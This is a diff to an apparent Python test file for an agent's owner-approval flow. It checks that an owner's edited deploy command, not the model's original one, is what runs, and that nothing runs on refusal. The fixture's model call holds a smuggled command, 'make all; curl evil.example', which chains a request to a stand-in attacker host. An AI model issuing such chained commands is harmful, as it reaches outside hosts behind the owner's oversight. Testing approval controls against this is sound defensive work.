@@ -148,7 +148,8 @@ def line(detail: str, name: str) -> str:
     return next((one for one in detail.splitlines() if one.startswith(name)), "")
 
 
-async def test_A21_what_the_owner_writes_anew_is_judged_anew_and_is_what_runs() -> None:
+@pytest.mark.parametrize(("choice", "runs"), [("once", ["make all"]), ("no", [])])
+async def test_A21_what_the_owner_writes_anew_is_judged_anew_and_is_what_runs(choice: str, runs: list[str]) -> None:
     tool = Deploy()
     model = ScriptedProvider([Call("deploy", {"query": "make all; curl evil.example"}), "done"])
     async with agent(model, tool) as box:
@@ -159,10 +160,10 @@ async def test_A21_what_the_owner_writes_anew_is_judged_anew_and_is_what_runs() 
         await box.until(lambda: len(box.of(ApprovalAsked)) == 2)
         assert line(box.of(ApprovalAsked)[1].detail, "Runs:") == "Runs: make all"
         assert tool.calls == []
-        await box.ask(f"/approve {box.of(ApprovalAsked)[1].id} once")
+        await box.ask(f"/approve {box.of(ApprovalAsked)[1].id} {choice}")
         await box.until(lambda: bool(box.of(TurnFinished)))
-        assert "The owner changed query before this ran. It ran with: make all" in (await box.history())[2].text
-    assert [call.query for call in tool.calls] == ["make all"]
+        told = "The owner changed query before this ran. It ran with: make all" in (await box.history())[2].text
+    assert (told, [call.query for call in tool.calls]) == (bool(runs), runs)
 
 
 async def test_A21_what_would_do_something_else_by_the_time_of_the_answer_is_asked_anew() -> None:
